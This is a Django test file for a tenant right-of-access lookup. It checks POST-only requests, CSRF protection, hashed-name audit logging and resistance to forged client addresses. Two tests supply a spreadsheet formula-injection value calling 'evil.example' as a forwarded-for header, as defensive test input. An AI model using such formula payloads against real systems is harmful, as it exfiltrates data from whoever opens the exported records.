"""Right of access: the tenant's name is sent by POST only, and every lookup is audited with
the client's address as `helhedsplan.core.client` decides it."""

from django.test import override_settings
from django.urls import reverse

from helhedsplan.cases.models import AuditEvent
from helhedsplan.cases.subject_access import name_digest

from .test_cases import a_case, plan_admin, worker  # noqa: F401 (fixtures)


def lookups():
    return AuditEvent.objects.filter(detail__startswith="subject access lookup")


def test_a_get_with_a_name_does_nothing_and_reveals_nothing(plan_2025, worker, plan_admin):  # noqa: F811
    a_case(plan_2025, worker.user, name="Fiktiv Opslag")
    url = reverse("cases:subject_access", args=[plan_2025.slug])

    for action in ("find", "json", "pdf", "erase"):
        response = plan_admin.get(url, {"name": "Fiktiv Opslag", "action": action})

        assert response.status_code == 200
        assert response["Content-Type"].startswith("text/html")
        page = response.content.decode()
        assert "Fiktiv Opslag" not in page
        assert "oplysninger om denne beboer" not in page  # no count of cases found
    assert not lookups().exists()
    assert plan_2025.cases.filter(tenant_name="Fiktiv Opslag").exists()  # nothing erased


def test_the_lookup_form_is_posted_with_a_csrf_token(plan_2025, plan_admin):  # noqa: F811
    page = plan_admin.get(reverse("cases:subject_access", args=[plan_2025.slug])).content.decode()

    assert '<form method="post"' in page
    assert "csrfmiddlewaretoken" in page
    assert '<form method="get"' not in page


def test_a_posted_lookup_is_audited_for_every_case_found(plan_2025, worker, plan_admin):  # noqa: F811
    first = a_case(plan_2025, worker.user, name="Fiktiv Opslag")
    second = a_case(plan_2025, worker.user, name="fiktiv opslag")

    response = plan_admin.post(
        reverse("cases:subject_access", args=[plan_2025.slug]),
        {"name": "Fiktiv Opslag"},
        REMOTE_ADDR="192.0.2.44",
    )

    assert "2 sager" in response.content.decode()
    events = lookups().filter(action="read")
    assert {e.case_number for e in events} == {first.pk, second.pk}
    for event in events:
        assert event.username == "padmin"
        assert event.ip_address == "192.0.2.44"
        assert event.path == reverse("cases:subject_access", args=[plan_2025.slug])
        assert name_digest("fiktiv  OPSLAG") in event.detail
        assert "Opslag" not in event.detail  # the name itself is not kept in the audit log


def test_a_lookup_that_finds_nothing_is_audited_too(plan_2025, plan_admin):  # noqa: F811
    plan_admin.post(
        reverse("cases:subject_access", args=[plan_2025.slug]), {"name": "Ingen Sådan Person"}
    )

    (event,) = lookups()
    assert event.case_number is None
    assert event.detail.endswith("no case")
    assert name_digest("Ingen Sådan Person") in event.detail


@override_settings(TRUSTED_PROXIES=[])
def test_a_forged_forwarded_address_does_not_reach_the_audit_log(plan_2025, plan_admin):  # noqa: F811
    plan_admin.post(
        reverse("cases:subject_access", args=[plan_2025.slug]),
        {"name": "Fiktiv Ingen"},
        REMOTE_ADDR="192.0.2.44",
        HTTP_X_FORWARDED_FOR='=HYPERLINK("http://evil.example/?x="&A1)',
    )

    assert lookups().get().ip_address == "192.0.2.44"


@override_settings(TRUSTED_PROXIES=["10.0.0.0/8"])
def test_behind_a_trusted_proxy_the_audit_log_has_the_real_client(plan_2025, plan_admin):  # noqa: F811
    plan_admin.post(
        reverse("cases:subject_access", args=[plan_2025.slug]),
        {"name": "Fiktiv Ingen"},
        REMOTE_ADDR="10.0.0.2",
        HTTP_X_FORWARDED_FOR="192.0.2.1, 198.51.100.5",
    )

    assert lookups().get().ip_address == "198.51.100.5"


@override_settings(TRUSTED_PROXIES=["10.0.0.0/8"])
def test_garbage_from_behind_the_proxy_is_stored_as_no_address(plan_2025, plan_admin):  # noqa: F811
    plan_admin.post(
        reverse("cases:subject_access", args=[plan_2025.slug]),
        {"name": "Fiktiv Ingen"},
        REMOTE_ADDR="10.0.0.2",
        HTTP_X_FORWARDED_FOR='=HYPERLINK("http://evil.example")',
    )

    assert lookups().get().ip_address is None
